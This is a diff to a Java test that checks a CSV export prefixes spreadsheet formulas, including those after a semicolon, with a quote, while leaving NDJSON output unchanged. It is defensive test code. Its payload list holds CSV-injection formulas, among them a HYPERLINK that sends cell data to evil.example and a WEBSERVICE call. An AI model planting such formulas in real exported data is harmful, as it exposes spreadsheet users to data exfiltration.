@@ -63,10 +63,10 @@ class ExportWriterTest {
 
     /** A caller's user agent must not become a formula in the admin's spreadsheet (CSV injection). */
     @Test
-    void aCsvCellASpreadsheetWouldRunAsAFormulaIsQuotedWithAQuoteInFrontAndTheNdjsonIsUnchanged() throws IOException {
+    void aCsvCellASpreadsheetWouldRunAsAFormulaAtItsStartOrAfterASemicolonGetsAQuoteInFrontAndTheNdjsonIsUnchanged() throws IOException {
         String org = TestEvents.newOrg();
         List<String> payloads = List.of("=HYPERLINK(\"https://evil.example/?\"&B2,\"details\")", "+1", "-2+3", "@SUM(A1)",
-                "\tcmd");
+                "\tcmd", "x;=WEBSERVICE(A2);@SUM(A1)");
         for (int i = 0; i < payloads.size(); i++) {
             insert(org, i + 1, payloads.get(i), "{}", false);
         }
@@ -77,8 +77,9 @@ class ExportWriterTest {
         String ndjson = new String(written(ExportFormat.NDJSON, rows), StandardCharsets.UTF_8);
 
         assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"details\"\")\",", ",\"'+1\",",
-                ",\"'-2+3\",", ",\"'@SUM(A1)\",", ",\"'\tcmd\",");
-        assertThat(ndjson).contains("\"user_agent\":\"+1\"", "\"user_agent\":\"@SUM(A1)\"");
+                ",\"'-2+3\",", ",\"'@SUM(A1)\",", ",\"'\tcmd\",", ",x;'=WEBSERVICE(A2);'@SUM(A1),");
+        assertThat(ndjson).contains("\"user_agent\":\"+1\"", "\"user_agent\":\"@SUM(A1)\"",
+                "\"user_agent\":\"x;=WEBSERVICE(A2);@SUM(A1)\"");
     }
 
     private static byte[] written(ExportFormat format, RowSet<Row> rows) throws IOException {
